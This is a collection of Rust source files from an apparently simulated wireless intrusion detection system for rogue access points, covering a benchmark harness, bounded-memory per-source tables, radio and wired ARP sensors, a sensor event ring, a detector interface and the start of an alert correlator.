            (report, r0.elapsed().as_secs_f64())
        })
        .collect();
    for (report, secs) in &reports {
        print!("{}", rogue_bench::render_report(report));
        eprintln!("[{}] {:.2} s", report.id, secs);
    }
    eprintln!(
        "total wall time: {:.1} s on {} thread(s)",
        t0.elapsed().as_secs_f64(),
        rayon::current_num_threads()
    );
}
