//! `harness` — regenerate every table of the reproduction.
//!
//! ```text
//! cargo run --release -p rogue-bench --bin harness [reps]
//! ```
//!
//! Prints the E1–E10 tables recorded in EXPERIMENTS.md. `reps` (default 5)
//! controls Monte-Carlo replications per cell.

fn main() {
    let reps: usize = std::env::args()
        .nth(1)
        .and_then(|a| a.parse().ok())
        .unwrap_or(5);
    println!("Countering Rogues in Wireless Networks — reproduction harness");
    println!("replications per cell: {reps}\n");
    let t0 = std::time::Instant::now();
    for report in rogue_bench::all_reports(reps) {
        println!("────────────────────────────────────────────────────────────");
        println!("{}: {}", report.id, report.artifact);
        println!("────────────────────────────────────────────────────────────");
        println!("{}", report.body);
    }
    println!("total wall time: {:.1} s", t0.elapsed().as_secs_f64());
}
