//! Bounded-memory state substrates for per-source detector bookkeeping.
//!
//! Every per-transmitter map in the original detector suite
//! (`HashMap<MacAddr, TaState>` and friends) grows with the number of
//! *distinct sources observed* — which an attacker controls outright by
//! randomizing MAC addresses. The structures here cap that at
//! configuration time:
//!
//! * [`WindowCounter`] — sliding-window event counts per key, kept as a
//!   ring of count-min-sketch buckets. Memory is O(buckets × width ×
//!   depth) no matter how many distinct keys appear; estimates can only
//!   over-count (sketch collisions, plus up to one bucket of
//!   quantization slack at the trailing window edge), never under-count.
//! * [`BoundedTable`] — a set-associative table (`groups × ways`
//!   entries) with deterministic least-recently-touched eviction inside
//!   a group. Per-key state (sequence counters, last-RSSI) lives here;
//!   under a cardinality attack old entries are recycled instead of the
//!   table growing.
//!
//! Both are deterministic functions of the (simulated-time-stamped)
//! event stream, which the shard-equivalence suite relies on. A
//! `BoundedTable`'s groups are the unit of sharding: a key maps to
//! exactly one group, and shards own contiguous group ranges, so the
//! same key lands in the same group's slots no matter how many shards
//! the table is split into — sharded evaluation is bit-identical to
//! serial by construction, not by luck.

use rogue_sim::{SimDuration, SimTime};

/// SplitMix64-style finalizer: the one hash every keyed structure here
/// shares, so a key's group assignment and sketch rows agree everywhere.
#[inline]
pub fn mix64(mut x: u64) -> u64 {
    x = x.wrapping_add(0x9E37_79B9_7F4A_7C15);
    x = (x ^ (x >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
    x = (x ^ (x >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
    x ^ (x >> 31)
}

/// Hash a MAC address (6 bytes packed little-endian) into the shared
/// key-hash domain.
#[inline]
pub fn hash_mac(mac: &[u8; 6]) -> u64 {
    let mut x = 0u64;
    for (i, b) in mac.iter().enumerate() {
        x |= (*b as u64) << (8 * i);
    }
    mix64(x)
}

/// A count-min sketch: `depth` rows of `width` counters; an increment
/// bumps one counter per row, an estimate takes the row minimum.
#[derive(Clone)]
struct CountMin {
    width_mask: u64,
    depth: u32,
    counts: Vec<u32>,
}

impl CountMin {
    fn new(width: usize, depth: u32) -> CountMin {
        assert!(width.is_power_of_two(), "sketch width must be 2^k");
        CountMin {
            width_mask: width as u64 - 1,
            depth,
            counts: vec![0; width * depth as usize],
        }
    }

    #[inline]
    fn row_col(&self, row: u32, key_hash: u64) -> usize {
        // Double hashing: row i probes h1 + i*h2 (both derived from the
        // one mixed key hash).
        let h2 = (key_hash >> 32) | 1;
        let col = key_hash.wrapping_add(h2.wrapping_mul(row as u64)) & self.width_mask;
        row as usize * (self.width_mask as usize + 1) + col as usize
    }

    #[inline]
    fn add(&mut self, key_hash: u64) {
        for row in 0..self.depth {
            let idx = self.row_col(row, key_hash);
            self.counts[idx] = self.counts[idx].saturating_add(1);
        }
    }

    #[inline]
    fn estimate(&self, key_hash: u64) -> u32 {
        let mut est = u32::MAX;
        for row in 0..self.depth {
            est = est.min(self.counts[self.row_col(row, key_hash)]);
        }
        est
    }

    fn clear(&mut self) {
        self.counts.fill(0);
    }

    fn bytes(&self) -> usize {
        self.counts.len() * core::mem::size_of::<u32>()
    }
}

/// Sliding-window per-key event counter over a ring of count-min
/// buckets. [`WindowCounter::observe`] records one event and returns the
/// estimated count for that key over (at least) the trailing window —
/// exact while the sketch is collision-free, quantized to bucket
/// boundaries at the trailing edge.
pub struct WindowCounter {
    bucket_len_ns: u64,
    buckets: Vec<CountMin>,
    /// Which absolute bucket epoch each ring slot currently holds
    /// (`u64::MAX` = never written).
    epochs: Vec<u64>,
}

impl WindowCounter {
    /// Counter covering at least `window`, split into `buckets` ring
    /// slots plus one extra that absorbs the partial leading bucket, so
    /// the covered span never falls below `window`.
    pub fn new(window: SimDuration, buckets: usize, width: usize, depth: u32) -> WindowCounter {
        assert!(buckets >= 1);
        let bucket_len_ns = (window.as_nanos() / buckets as u64).max(1);
        WindowCounter {
            bucket_len_ns,
            buckets: vec![CountMin::new(width, depth); buckets + 1],
            epochs: vec![u64::MAX; buckets + 1],
        }
    }

    /// Record one event for `key_hash` at `at`; returns the estimated
    /// event count for that key over the trailing window (including this
    /// event).
    pub fn observe(&mut self, at: SimTime, key_hash: u64) -> u32 {
        let epoch = at.as_nanos() / self.bucket_len_ns;
        let n = self.buckets.len();
        let slot = (epoch % n as u64) as usize;
        if self.epochs[slot] != epoch {
            self.buckets[slot].clear();
            self.epochs[slot] = epoch;
        }
        self.buckets[slot].add(key_hash);
        let oldest_live = epoch.saturating_sub(n as u64 - 1);
        let mut total = 0u32;
        for s in 0..n {
            if self.epochs[s] != u64::MAX
                && self.epochs[s] >= oldest_live
                && self.epochs[s] <= epoch
            {
                total = total.saturating_add(self.buckets[s].estimate(key_hash));
            }
        }
        total
    }

    /// Fixed memory footprint of the sketch ring, in bytes.
    pub fn bytes(&self) -> usize {
        self.buckets.iter().map(|b| b.bytes()).sum()
    }
}

/// One occupied slot of a [`BoundedTable`].
struct Slot<K, V> {
    key: K,
    /// Simulated time of the last touch (lookup or insert) — the
    /// eviction clock. Deterministic because it is sim time, not wall
    /// time.
    touched: SimTime,
    value: V,
}

/// Set-associative bounded map: `groups × ways` slots, deterministic
/// least-recently-touched eviction within a group (ties broken by way
/// index).
pub struct BoundedTable<K, V> {
    groups: usize,
    ways: usize,
    slots: Vec<Option<Slot<K, V>>>,
    /// Entries recycled under pressure (cardinality-attack telemetry).
    pub evictions: u64,
}

impl<K: Eq + Copy, V> BoundedTable<K, V> {
    /// Table with `groups` (a power of two) times `ways` slots.
    pub fn new(groups: usize, ways: usize) -> BoundedTable<K, V> {
        assert!(groups.is_power_of_two(), "groups must be 2^k");
        let mut slots = Vec::new();
        slots.resize_with(groups * ways, || None);
        BoundedTable {
            groups,
            ways,
            slots,
            evictions: 0,
        }
    }

    /// Total slot capacity.
    pub fn capacity(&self) -> usize {
        self.groups * self.ways
    }

    /// Number of groups (the sharding unit).
    pub fn groups(&self) -> usize {
        self.groups
    }

    /// The group a key hash belongs to.
    #[inline]
    pub fn group_of(&self, key_hash: u64) -> usize {
        (key_hash & (self.groups as u64 - 1)) as usize
    }

    /// Occupied slots (bounded by [`BoundedTable::capacity`] forever).
    pub fn tracked(&self) -> usize {
        self.slots.iter().filter(|s| s.is_some()).count()
    }

    /// Fixed memory footprint of the slot array, in bytes.
    pub fn bytes(&self) -> usize {
        self.slots.len() * core::mem::size_of::<Option<Slot<K, V>>>()
    }

    /// Lookup-or-insert; `key_hash` must come from [`mix64`]/[`hash_mac`]
    /// over `key`.
    pub fn entry(
        &mut self,
        at: SimTime,
        key_hash: u64,
        key: K,
        default: impl FnOnce() -> V,
    ) -> &mut V {
        let group = self.group_of(key_hash);
        let base = group * self.ways;
        entry_in(
            &mut self.slots[base..base + self.ways],
            &mut self.evictions,
            at,
            key,
            default,
        )
    }

    /// Lookup without insert; refreshes the entry's eviction clock on a
    /// hit (a consulted binding is a binding worth keeping).
    pub fn get_touch(&mut self, at: SimTime, key_hash: u64, key: K) -> Option<&mut V> {
        let group = self.group_of(key_hash);
        let base = group * self.ways;
        for s in self.slots[base..base + self.ways].iter_mut().flatten() {
            if s.key == key {
                s.touched = at;
                return Some(&mut s.value);
            }
        }
        None
    }

    /// Split the table into `n` disjoint views over contiguous group
    /// ranges for parallel per-shard evaluation; `n` must divide the
    /// group count. Each view tallies its own evictions — fold them back
    /// with [`BoundedTable::add_evictions`] after the views drop.
    pub fn shard_views(&mut self, n: usize) -> Vec<TableView<'_, K, V>> {
        assert!(
            n >= 1 && self.groups.is_multiple_of(n),
            "shards must divide groups"
        );
        let groups_per = self.groups / n;
        let per = groups_per * self.ways;
        let ways = self.ways;
        self.slots
            .chunks_mut(per)
            .enumerate()
            .map(|(i, chunk)| TableView {
                slots: chunk,
                ways,
                first_group: i * groups_per,
                evictions: 0,
            })
            .collect()
    }

    /// Fold a shard view's eviction tally back into the table counter.
    pub fn add_evictions(&mut self, n: u64) {
        self.evictions += n;
    }
}

/// A mutable window onto a contiguous group range of a [`BoundedTable`].
pub struct TableView<'a, K, V> {
    slots: &'a mut [Option<Slot<K, V>>],
    ways: usize,
    first_group: usize,
    /// Evictions performed through this view.
    pub evictions: u64,
}

impl<K: Eq + Copy, V> TableView<'_, K, V> {
    /// Lookup-or-insert for a key whose group falls inside this view.
    /// The caller routes rows by [`BoundedTable::group_of`].
    pub fn entry(
        &mut self,
        at: SimTime,
        group: usize,
        key: K,
        default: impl FnOnce() -> V,
    ) -> &mut V {
        let local = (group - self.first_group) * self.ways;
        entry_in(
            &mut self.slots[local..local + self.ways],
            &mut self.evictions,
            at,
            key,
            default,
        )
    }
}

fn entry_in<'s, K: Eq + Copy, V>(
    group_slots: &'s mut [Option<Slot<K, V>>],
    evictions: &mut u64,
    at: SimTime,
    key: K,
    default: impl FnOnce() -> V,
) -> &'s mut V {
    let mut empty: Option<usize> = None;
    let mut victim = 0usize;
    let mut victim_touched = SimTime::FOREVER;
    let mut hit: Option<usize> = None;
    for (w, s) in group_slots.iter().enumerate() {
        match s {
            Some(slot) if slot.key == key => {
                hit = Some(w);
                break;
            }
            Some(slot) => {
                if slot.touched < victim_touched {
                    victim_touched = slot.touched;
                    victim = w;
                }
            }
            None => {
                if empty.is_none() {
                    empty = Some(w);
                }
            }
        }
    }
    let w = match (hit, empty) {
        (Some(w), _) => {
            let slot = group_slots[w].as_mut().unwrap();
            slot.touched = at;
            return &mut slot.value;
        }
        (None, Some(w)) => w,
        (None, None) => {
            *evictions += 1;
            victim
        }
    };
    group_slots[w] = Some(Slot {
        key,
        touched: at,
        value: default(),
    });
    &mut group_slots[w].as_mut().unwrap().value
}

#[cfg(test)]
mod tests {
    use super::*;

    fn t(ms: u64) -> SimTime {
        SimTime::from_millis(ms)
    }

    #[test]
    fn window_counter_counts_within_window() {
        let mut w = WindowCounter::new(SimDuration::from_secs(2), 8, 256, 4);
        let k = mix64(42);
        for i in 0..4u64 {
            let est = w.observe(t(i * 100), k);
            assert_eq!(est, i as u32 + 1);
        }
        // 10 seconds later the old events have aged out entirely.
        assert_eq!(w.observe(t(12_000), k), 1);
    }

    #[test]
    fn window_counter_never_undercounts() {
        let mut w = WindowCounter::new(SimDuration::from_secs(2), 8, 64, 4);
        let keys: Vec<u64> = (0..200).map(mix64).collect();
        for (i, k) in keys.iter().enumerate() {
            w.observe(t(i as u64), *k);
        }
        for k in &keys {
            // The probe's own observation contributes 1; the original
            // sighting is still inside the window.
            let est = w.observe(t(250), *k);
            assert!(est >= 2, "undercount for key {k:#x}: {est}");
        }
    }

    #[test]
    fn window_counter_memory_is_fixed() {
        let mut w = WindowCounter::new(SimDuration::from_secs(2), 8, 256, 4);
        let before = w.bytes();
        for i in 0..100_000u64 {
            w.observe(t(i / 10), mix64(i));
        }
        assert_eq!(w.bytes(), before, "sketch must not grow with keys");
    }

    #[test]
    fn bounded_table_hits_and_evicts_lru() {
        // One group, two ways: inserting a third key evicts the LRU.
        let mut tbl: BoundedTable<u64, u32> = BoundedTable::new(1, 2);
        *tbl.entry(t(10), 0, 100, || 0) = 1;
        *tbl.entry(t(20), 0, 200, || 0) = 2;
        assert_eq!(tbl.tracked(), 2);
        // Touch 100 so 200 becomes the LRU victim.
        assert_eq!(*tbl.entry(t(30), 0, 100, || 9), 1);
        *tbl.entry(t(40), 0, 300, || 0) = 3;
        assert_eq!(tbl.evictions, 1);
        assert_eq!(*tbl.entry(t(50), 0, 100, || 9), 1, "100 survived");
        assert_eq!(*tbl.entry(t(60), 0, 200, || 9), 9, "200 was evicted");
    }

    #[test]
    fn bounded_table_capacity_is_hard() {
        let mut tbl: BoundedTable<u64, u64> = BoundedTable::new(64, 4);
        for i in 0..100_000u64 {
            let h = mix64(i);
            let _ = tbl.entry(t(i), h, i, || i);
        }
        assert_eq!(tbl.tracked(), tbl.capacity(), "full but never beyond");
        assert!(tbl.evictions > 0);
    }

    #[test]
    fn shard_views_are_equivalent_to_whole_table() {
        // The same inserts through 1 view and through 4 shard views must
        // produce identical hit/miss behavior.
        let mut whole: BoundedTable<u64, u64> = BoundedTable::new(16, 2);
        let mut sharded: BoundedTable<u64, u64> = BoundedTable::new(16, 2);
        let keys: Vec<u64> = (0..500).collect();
        let mut whole_sum = 0u64;
        for (i, k) in keys.iter().enumerate() {
            let h = mix64(*k);
            whole_sum += *whole.entry(t(i as u64), h, *k, || *k * 3);
        }
        let mut shard_sum = 0u64;
        {
            let groups = sharded.groups();
            let mut views = sharded.shard_views(4);
            let per = groups / 4;
            for (i, k) in keys.iter().enumerate() {
                let h = mix64(*k);
                let g = (h & (groups as u64 - 1)) as usize;
                shard_sum += *views[g / per].entry(t(i as u64), g, *k, || *k * 3);
            }
            let ev: u64 = views.iter().map(|v| v.evictions).sum();
            drop(views);
            sharded.add_evictions(ev);
        }
        assert_eq!(whole_sum, shard_sum);
        assert_eq!(whole.evictions, sharded.evictions);
        assert_eq!(whole.tracked(), sharded.tracked());
    }
}
