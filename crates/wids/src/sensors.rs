//! Sensor taps: adapters from capture substrates to [`SensorEvent`]s.
//!
//! A [`RadioSensor`] rides an existing monitor-mode [`Sniffer`] buffer
//! and digests captures *incrementally*: the simulation runs in slices,
//! and after each slice the sensor converts only what arrived since its
//! last drain. A [`WiredSensor`] does the same for a switch span port,
//! decoding Ethernet frames and surfacing the ARP traffic the wired-side
//! detectors inspect.

use bytes::Bytes;
use rogue_dot11::frame::FrameBody;
use rogue_dot11::monitor::{Capture, Sniffer};
use rogue_netstack::arp::{ArpOp, ArpPacket};
use rogue_netstack::ethernet::EthFrame;
use rogue_sim::SimTime;

use crate::event::{ArpEvent, Dot11Event, Dot11Kind, SensorEvent, SensorId, SensorRing};

/// Ethertype for ARP.
const ET_ARP: u16 = 0x0806;

/// A per-channel monitor tap over a [`Sniffer`] capture buffer.
pub struct RadioSensor {
    /// This sensor's identity in the event stream.
    pub id: SensorId,
    cursor: usize,
    /// Frames digested over the sensor's lifetime.
    pub digested: u64,
}

impl RadioSensor {
    /// New tap; starts at the head of the capture buffer.
    pub fn new(id: SensorId) -> RadioSensor {
        RadioSensor {
            id,
            cursor: 0,
            digested: 0,
        }
    }

    /// Digest captures that arrived since the last drain into `ring`.
    /// Returns how many events were produced.
    pub fn drain(&mut self, sniffer: &Sniffer, ring: &mut SensorRing) -> usize {
        let mut produced = 0;
        for c in &sniffer.captures[self.cursor..] {
            ring.push(SensorEvent::Dot11(self.digest(c)));
            produced += 1;
        }
        self.cursor = sniffer.captures.len();
        self.digested += produced as u64;
        produced
    }

    fn digest(&self, c: &Capture) -> Dot11Event {
        let kind = match &c.frame.body {
            FrameBody::Beacon(info) => Dot11Kind::Beacon {
                ssid: info.ssid.clone(),
                claimed_channel: info.channel,
                capability: info.capability,
                probe_resp: false,
            },
            FrameBody::ProbeResp(info) => Dot11Kind::Beacon {
                ssid: info.ssid.clone(),
                claimed_channel: info.channel,
                capability: info.capability,
                probe_resp: true,
            },
            FrameBody::Deauth { reason } => Dot11Kind::Deauth { reason: *reason },
            FrameBody::Data { .. } => Dot11Kind::Data {
                protected: c.frame.protected,
            },
            FrameBody::Ack => Dot11Kind::Ack,
            _ => Dot11Kind::Mgmt,
        };
        Dot11Event {
            sensor: self.id,
            at: c.at,
            channel: c.channel,
            rssi_dbm: c.rssi_dbm,
            ta: c.frame.addr2,
            ra: c.frame.addr1,
            bssid: c.frame.bssid(),
            seq: c.frame.seq,
            retry: c.frame.retry,
            kind,
        }
    }
}

/// A wired span-port tap: decodes raw Ethernet frames, emitting an event
/// per ARP packet (the wired-side rogue/poisoning evidence).
pub struct WiredSensor {
    /// This sensor's identity in the event stream.
    pub id: SensorId,
    /// Ethernet frames inspected.
    pub frames_seen: u64,
    /// ARP packets surfaced.
    pub arp_seen: u64,
    /// Frames that failed to decode.
    pub undecodable: u64,
}

impl WiredSensor {
    /// New wired tap.
    pub fn new(id: SensorId) -> WiredSensor {
        WiredSensor {
            id,
            frames_seen: 0,
            arp_seen: 0,
            undecodable: 0,
        }
    }

    /// Inspect one raw frame captured at `at`.
    pub fn ingest(&mut self, at: SimTime, bytes: &Bytes, ring: &mut SensorRing) {
        let Some(eth) = EthFrame::decode(bytes) else {
            self.undecodable += 1;
            return;
        };
        self.frames_seen += 1;
        if eth.ethertype != ET_ARP {
            return;
        }
        let Some(arp) = ArpPacket::decode(&eth.payload) else {
            self.undecodable += 1;
            return;
        };
        self.arp_seen += 1;
        // Gratuitous shapes: an is-at nobody asked a question of — sent
        // to broadcast, or claiming a binding for its own target.
        let gratuitous =
            arp.op == ArpOp::Reply && (eth.dst.is_multicast() || arp.target_ip == arp.sender_ip);
        ring.push(SensorEvent::Arp(ArpEvent {
            sensor: self.id,
            at,
            src_mac: eth.src,
            op: arp.op,
            sender_mac: arp.sender_mac,
            sender_ip: arp.sender_ip,
            target_ip: arp.target_ip,
            gratuitous,
        }));
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rogue_dot11::frame::{Frame, MgmtInfo, CAP_ESS};
    use rogue_dot11::MacAddr;
    use rogue_netstack::Ipv4Addr;

    #[test]
    fn radio_sensor_drains_incrementally() {
        let mut s = Sniffer::new();
        let mut sensor = RadioSensor::new(SensorId(3));
        let mut ring = SensorRing::new(64);
        let beacon = |seq: u16| {
            let mut f = Frame::new(
                MacAddr::BROADCAST,
                MacAddr::local(1),
                MacAddr::local(1),
                FrameBody::Beacon(MgmtInfo {
                    timestamp: 0,
                    beacon_interval_tu: 100,
                    capability: CAP_ESS,
                    ssid: "CORP".into(),
                    channel: 6,
                }),
            );
            f.seq = seq;
            f
        };
        s.on_receive(SimTime::from_millis(1), &beacon(1).encode(), -40.0, 6);
        assert_eq!(sensor.drain(&s, &mut ring), 1);
        s.on_receive(SimTime::from_millis(2), &beacon(2).encode(), -40.0, 6);
        s.on_receive(SimTime::from_millis(3), &beacon(3).encode(), -40.0, 6);
        assert_eq!(sensor.drain(&s, &mut ring), 2, "only the new captures");
        assert_eq!(sensor.drain(&s, &mut ring), 0);
        let events = ring.drain();
        assert_eq!(events.len(), 3);
        match &events[0] {
            SensorEvent::Dot11(e) => {
                assert_eq!(e.sensor, SensorId(3));
                assert_eq!(e.bssid, MacAddr::local(1));
                assert!(
                    matches!(&e.kind, Dot11Kind::Beacon { ssid, claimed_channel: 6, .. } if ssid == "CORP")
                );
            }
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn wired_sensor_surfaces_arp() {
        let mut sensor = WiredSensor::new(SensorId(9));
        let mut ring = SensorRing::new(64);
        let gw = Ipv4Addr::new(192, 168, 0, 254);
        // A gratuitous broadcast is-at.
        let arp = ArpPacket {
            op: ArpOp::Reply,
            sender_mac: MacAddr::local(66),
            sender_ip: gw,
            target_mac: MacAddr::BROADCAST,
            target_ip: gw,
        };
        let frame = EthFrame::new(MacAddr::BROADCAST, MacAddr::local(66), ET_ARP, arp.encode());
        sensor.ingest(SimTime::from_millis(5), &frame.encode(), &mut ring);
        // A non-ARP frame is counted but produces no event.
        let ip_frame = EthFrame::new(
            MacAddr::local(2),
            MacAddr::local(1),
            0x0800,
            Bytes::from_static(b"payload"),
        );
        sensor.ingest(SimTime::from_millis(6), &ip_frame.encode(), &mut ring);
        assert_eq!(sensor.frames_seen, 2);
        assert_eq!(sensor.arp_seen, 1);
        let events = ring.drain();
        assert_eq!(events.len(), 1);
        match &events[0] {
            SensorEvent::Arp(e) => {
                assert!(e.gratuitous);
                assert_eq!(e.sender_ip, gw);
                assert_eq!(e.sender_mac, MacAddr::local(66));
            }
            other => panic!("unexpected {other:?}"),
        }
    }
}
