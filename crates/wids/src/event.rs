//! The unified sensor event stream.
//!
//! Every sensor — radio taps in monitor mode, wired span ports — digests
//! what it captures into [`SensorEvent`]s and pushes them into a bounded
//! [`SensorRing`]. Detectors never see raw frames: they consume this one
//! normalized stream, which is what makes them pluggable across sensor
//! types and scenarios.

use std::collections::VecDeque;

use rogue_dot11::MacAddr;
use rogue_netstack::arp::ArpOp;
use rogue_netstack::Ipv4Addr;
use rogue_sim::SimTime;

/// Identifies which sensor produced an event (dense, assigned by the
/// pipeline at sensor registration).
#[derive(Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Debug)]
pub struct SensorId(pub u16);

/// Digest of an 802.11 frame body, keeping only what detectors consume.
#[derive(Clone, Debug, PartialEq)]
pub enum Dot11Kind {
    /// Beacon or probe response advertising a BSS.
    Beacon {
        /// Advertised network name.
        ssid: String,
        /// Channel the DS parameter set claims.
        claimed_channel: u8,
        /// Capability field (privacy bit etc.).
        capability: u16,
        /// True when the advertisement was a directed probe response
        /// rather than a broadcast beacon — cloaked rogues advertise
        /// *only* this way, which the probe-audit detector keys on.
        probe_resp: bool,
    },
    /// Deauthentication.
    Deauth {
        /// Reason code.
        reason: u16,
    },
    /// Data frame.
    Data {
        /// WEP-protected?
        protected: bool,
    },
    /// Any other management frame that carries a sequence counter.
    Mgmt,
    /// ACK control frame (no sequence counter, no addr2).
    Ack,
}

/// One digested 802.11 capture.
#[derive(Clone, Debug)]
pub struct Dot11Event {
    /// Producing sensor.
    pub sensor: SensorId,
    /// Capture time.
    pub at: SimTime,
    /// Channel the sensor was tuned to.
    pub channel: u8,
    /// Received signal strength, dBm.
    pub rssi_dbm: f64,
    /// Transmitter address (Addr2; zero for ACKs).
    pub ta: MacAddr,
    /// Receiver address (Addr1).
    pub ra: MacAddr,
    /// BSSID.
    pub bssid: MacAddr,
    /// Sequence-control counter (modulo 4096).
    pub seq: u16,
    /// Retry flag — retransmissions legitimately repeat `seq`.
    pub retry: bool,
    /// Body digest.
    pub kind: Dot11Kind,
}

/// One ARP packet observed on a wired segment.
#[derive(Clone, Debug)]
pub struct ArpEvent {
    /// Producing sensor.
    pub sensor: SensorId,
    /// Capture time.
    pub at: SimTime,
    /// Ethernet source address of the carrying frame.
    pub src_mac: MacAddr,
    /// Request or reply.
    pub op: ArpOp,
    /// Hardware address the packet claims for `sender_ip`.
    pub sender_mac: MacAddr,
    /// Protocol address being bound (the claim under scrutiny).
    pub sender_ip: Ipv4Addr,
    /// Target protocol address.
    pub target_ip: Ipv4Addr,
    /// Reply addressed to broadcast or to the claimed IP itself —
    /// the gratuitous-ARP shapes cache poisoners use.
    pub gratuitous: bool,
}

/// A normalized sensor observation.
#[derive(Clone, Debug)]
pub enum SensorEvent {
    /// From a radio (monitor-mode) sensor.
    Dot11(Dot11Event),
    /// From a wired span-port sensor.
    Arp(ArpEvent),
}

impl SensorEvent {
    /// Capture timestamp.
    pub fn at(&self) -> SimTime {
        match self {
            SensorEvent::Dot11(e) => e.at,
            SensorEvent::Arp(e) => e.at,
        }
    }

    /// Producing sensor.
    pub fn sensor(&self) -> SensorId {
        match self {
            SensorEvent::Dot11(e) => e.sensor,
            SensorEvent::Arp(e) => e.sensor,
        }
    }
}

/// Bounded event ring between sensors and the detection pipeline.
///
/// Pushes beyond capacity drop the *newest* event (tail drop, like a NIC
/// ring under overrun) and count it, so a starved pipeline degrades
/// detectably instead of growing without bound.
pub struct SensorRing {
    buf: VecDeque<SensorEvent>,
    capacity: usize,
    /// Events accepted over the ring's lifetime.
    pub pushed: u64,
    /// Events tail-dropped because the ring was full.
    pub dropped: u64,
}

impl SensorRing {
    /// Ring holding at most `capacity` undrained events.
    pub fn new(capacity: usize) -> SensorRing {
        assert!(capacity > 0, "ring capacity must be nonzero");
        SensorRing {
            buf: VecDeque::with_capacity(capacity.min(1024)),
            capacity,
            pushed: 0,
            dropped: 0,
        }
    }

    /// Push an event; returns false (and counts a drop) when full.
    pub fn push(&mut self, ev: SensorEvent) -> bool {
        if self.buf.len() >= self.capacity {
            self.dropped += 1;
            return false;
        }
        self.buf.push_back(ev);
        self.pushed += 1;
        true
    }

    /// Take every buffered event, oldest first.
    pub fn drain(&mut self) -> Vec<SensorEvent> {
        self.buf.drain(..).collect()
    }

    /// Undrained events currently buffered.
    pub fn len(&self) -> usize {
        self.buf.len()
    }

    /// True when nothing is buffered.
    pub fn is_empty(&self) -> bool {
        self.buf.is_empty()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ev(ms: u64) -> SensorEvent {
        SensorEvent::Dot11(Dot11Event {
            sensor: SensorId(0),
            at: SimTime::from_millis(ms),
            channel: 1,
            rssi_dbm: -40.0,
            ta: MacAddr::local(1),
            ra: MacAddr::BROADCAST,
            bssid: MacAddr::local(1),
            seq: 0,
            retry: false,
            kind: Dot11Kind::Mgmt,
        })
    }

    #[test]
    fn ring_preserves_order() {
        let mut r = SensorRing::new(8);
        for i in 0..5 {
            assert!(r.push(ev(i)));
        }
        let out = r.drain();
        assert_eq!(out.len(), 5);
        assert!(out.windows(2).all(|w| w[0].at() <= w[1].at()));
        assert!(r.is_empty());
        assert_eq!(r.pushed, 5);
    }

    #[test]
    fn ring_tail_drops_when_full() {
        let mut r = SensorRing::new(3);
        for i in 0..5 {
            r.push(ev(i));
        }
        assert_eq!(r.len(), 3);
        assert_eq!(r.dropped, 2);
        assert_eq!(r.pushed, 3);
        // The oldest three survived.
        let out = r.drain();
        assert_eq!(out[0].at(), SimTime::from_millis(0));
        assert_eq!(out[2].at(), SimTime::from_millis(2));
    }
}
