//! The pluggable detector interface.
//!
//! A detector is a streaming analyzer: it consumes the normalized
//! [`SensorEvent`] stream one event at a time, keeps whatever state it
//! needs, and emits [`RawAlert`]s when evidence crosses its threshold.
//! Raw alerts are deliberately noisy and single-sourced — deduplication
//! and multi-detector fusion happen downstream in the correlation
//! engine, not inside detectors.

use rogue_dot11::MacAddr;
use rogue_sim::SimTime;

use crate::event::SensorEvent;

/// What a raw alert claims.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum AlertKind {
    /// Interleaved sequence counters behind one transmitter address.
    SequenceAnomaly,
    /// One transmitter heard on multiple channels concurrently.
    ChannelDivergence,
    /// An authorized SSID advertised by an unregistered BSSID.
    SsidClone,
    /// An authorized BSSID beaconing where it should not be.
    BssidSpoof,
    /// Deauthentication flood.
    DeauthFlood,
    /// Implausible signal-strength swings behind one transmitter.
    RssiInconsistent,
    /// Conflicting or unsolicited ARP bindings on a wired segment.
    ArpSpoof,
    /// Many distinct unregistered BSSIDs advertising one owned SSID —
    /// the MAC-randomizing evil twin's signature.
    SsidChurn,
    /// A BSSID probe-responding an owned SSID it never beacons — a
    /// beacon-cloaked evil twin.
    CloakedTwin,
    /// One BSSID probe-responding many distinct SSIDs — karma-style
    /// probe abuse.
    KarmaProbe,
}

/// One piece of single-detector evidence.
#[derive(Clone, Debug)]
pub struct RawAlert {
    /// When the evidence crossed the detector's threshold.
    pub at: SimTime,
    /// Emitting detector ([`Detector::name`]).
    pub detector: &'static str,
    /// The offending address (TA / BSSID / claiming MAC).
    pub subject: MacAddr,
    /// Claim category.
    pub kind: AlertKind,
    /// Confidence weight in (0, 1] — how strongly this single detector
    /// believes the claim. Fused by the correlator.
    pub weight: f64,
    /// Human-readable evidence summary.
    pub detail: String,
}

/// A streaming intrusion detector.
pub trait Detector {
    /// Stable detector name (also the alert provenance tag).
    fn name(&self) -> &'static str;

    /// Consume one event; push any alerts it triggers into `out`.
    fn on_event(&mut self, ev: &SensorEvent, out: &mut Vec<RawAlert>);
}
