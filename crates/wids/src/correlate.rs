//! Alert correlation: dedup, fusion, incidents.
//!
//! Detectors are deliberately noisy; operators are not supposed to read
//! raw alerts. The correlator turns the alert firehose into a short list
//! of scored [`Incident`]s:
//!
//! 1. **dedup** — an identical claim (same detector, subject, kind)
//!    repeated within a short window is counted, not re-processed;
//! 2. **fusion** — surviving alerts accumulate per (category, subject)
//!    case file inside a sliding window, combined noisy-or style across
//!    *distinct* detectors: `score = 1 - prod(1 - w_d)`;
//! 3. **incidents** — a case file whose score crosses the open threshold
//!    becomes an incident; later corroboration updates it in place.
//!
//! One strong witness (weight >= the threshold) convicts alone; weak
//! witnesses must corroborate each other.

use std::collections::HashMap;

use rogue_dot11::MacAddr;
use rogue_sim::trace::Metrics;
use rogue_sim::{SimDuration, SimTime};

use crate::detector::{AlertKind, RawAlert};

/// Coarse incident taxonomy — what the operator (and E10's ground-truth
/// labels) reason in.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum IncidentCategory {
    /// An unauthorized access point impersonating or joining the site.
    RogueAp,
    /// A deauthentication flood.
    DeauthFlood,
    /// ARP-layer spoofing on a wired segment.
    ArpSpoof,
}

impl IncidentCategory {
    /// The category an alert kind contributes evidence toward.
    pub fn of(kind: AlertKind) -> IncidentCategory {
        match kind {
            AlertKind::SequenceAnomaly
            | AlertKind::ChannelDivergence
            | AlertKind::SsidClone
            | AlertKind::BssidSpoof
